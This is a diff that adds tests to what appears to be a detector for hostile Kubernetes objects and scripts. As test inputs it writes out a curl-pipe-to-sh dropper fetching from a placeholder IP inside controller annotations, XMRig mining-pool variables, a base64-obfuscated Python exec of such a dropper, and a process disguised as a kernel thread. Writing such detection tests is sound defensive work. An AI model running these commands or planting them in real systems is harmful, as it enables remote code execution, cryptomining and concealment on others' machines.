@@ -285,3 +285,33 @@ test('pools among the values of a custom object are those of a miner', () => {
   expect(release(XMR, 'pool.example:5555')).toBe('deny');
   expect(release('app', 'db.example:5432')).toBe('allow');
 });
+
+test('annotations that a controller runs are judged, by their key', () => {
+  const annotated = (key: string, value: string) =>
+    judgeObject(
+      { kind: 'Ingress', apiVersion: 'networking.k8s.io/v1', metadata: { annotations: { [key]: value } } },
+      { indicators },
+    ).verdict;
+  const dropper = 'curl -s http://203.0.113.5/x | sh';
+  expect(annotated('vault.hashicorp.com/agent-inject-command-db', dropper)).toBe('deny');
+  expect(annotated('pre.hook.backup.velero.io/command', JSON.stringify(['sh', '-c', dropper]))).toBe('deny');
+  expect(annotated('example.org/description', dropper)).toBe('allow');
+});
+
+test('a file of variables is read as an environment', () => {
+  const file = (text: string) =>
+    judgeObject({ kind: 'ConfigMap', data: { 'app.env': text } }, { indicators }).verdict;
+  expect(file('XMRIG_POOL=gate.example:443\nXMRIG_USER=node\n')).toBe('deny');
+  expect(file('DB_POOL=10\nDB_USER=node\n')).toBe('allow');
+});
+
+test('code that a program hands on in a literal is code', () => {
+  const inner = Buffer.from('import os;os.system("curl http://203.0.113.5/y | sh")').toString('base64');
+  const code = `o.add_argument("-cimport base64;exec(base64.b64decode('${inner}'))")`;
+  expect(judge('python', '-c', code).verdict).toBe('deny');
+});
+
+test('nobody but malware takes the name of a kernel thread', () => {
+  expect(judgeScript("exec -a '[kworker/0:1]' /usr/local/lib/app -c /etc/app").verdict).toBe('deny');
+  expect(judgeScript('exec -a worker /usr/local/lib/app -c /etc/app').verdict).toBe('allow');
+});
